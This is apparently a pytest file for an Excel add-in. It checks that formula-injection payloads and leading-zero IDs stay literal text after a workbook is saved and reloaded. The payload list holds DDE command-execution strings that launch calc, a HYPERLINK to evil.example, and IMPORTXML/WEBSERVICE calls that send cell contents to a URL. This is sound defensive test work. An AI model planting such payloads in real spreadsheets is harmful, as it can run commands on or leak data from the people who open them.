"""Formula injection and id mangling: the corpus must stay literal text after save and reload."""

from datetime import date, datetime

import openpyxl
import pytest

from addin import cells, layout
from addin.layout import Kind
from addin.xlsx.book import XlsxBook

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "=SUM(A1:A9)",
    "+81-90-1234-5678",
    "-",
    "@",
    "=",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://x\")",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "'=1+1",
    "＝1+1",
    "=１＋１",
    "田中=1+1",
    "=\"太郎\"&\"様\"",
    "-2+3+cmd|' /C calc'!A0",
    "@@",
]


@pytest.mark.parametrize("kind", [Kind.TEXT, Kind.ID])
def test_injection_corpus_stays_text(workbook, kind):
    book = XlsxBook.open(workbook)
    book.write_block(layout.ORDERS, 10, 3, [[p] for p in PAYLOADS], [kind])
    book.save()
    wb = openpyxl.load_workbook(workbook, keep_vba=True)
    ws = wb[layout.ORDERS]
    for i, p in enumerate(PAYLOADS):
        c = ws.cell(row=10 + i, column=3)
        assert c.data_type == "s", p
        assert c.value == p.replace("\r", "\n")  # XML itself turns a bare CR into LF
    # and the XML holds no formula element at all
    import zipfile

    with zipfile.ZipFile(workbook) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


def test_ids_stay_text_and_dates_are_dates(workbook):
    book = XlsxBook.open(workbook)
    rows = [["0123456", 58029312345678, date(2026, 11, 26), datetime(2026, 11, 26, 9, 30), 3]]
    kinds = [Kind.ID, Kind.ID, Kind.DATE, Kind.DATETIME, Kind.INT]
    book.write_block(layout.ORDERS, 5, 1, rows, kinds)
    book.save()
    ws = openpyxl.load_workbook(workbook, keep_vba=True)[layout.ORDERS]
    assert ws["A5"].value == "0123456" and ws["A5"].data_type == "s"
    assert ws["B5"].value == "58029312345678" and ws["B5"].data_type == "s"
    assert ws["C5"].value == datetime(2026, 11, 26) and ws["C5"].is_date
    assert ws["D5"].value == datetime(2026, 11, 26, 9, 30)
    assert ws["E5"].value == 3


@pytest.mark.parametrize("payload", PAYLOADS)
def test_excel_input_never_starts_a_formula(payload):
    v = cells.excel_input(payload, Kind.TEXT)
    assert isinstance(v, str)
    assert not v.startswith(cells.FORMULA_TRIGGERS)


def test_excel_input_ids_and_dates():
    assert cells.excel_input("0123", Kind.ID) == "'0123"
    assert cells.excel_input("2026/11/26", Kind.TEXT) == "'2026/11/26"
    assert cells.excel_input("山田", Kind.TEXT) == "'山田"  # every string: Excel drops the prefix
    assert cells.excel_input("２－８－１", Kind.TEXT) == "'２－８－１"  # would become a date
    assert cells.excel_input(date(2026, 1, 2), Kind.DATE) == datetime(2026, 1, 2)
    assert cells.excel_input(None, Kind.TEXT) is None
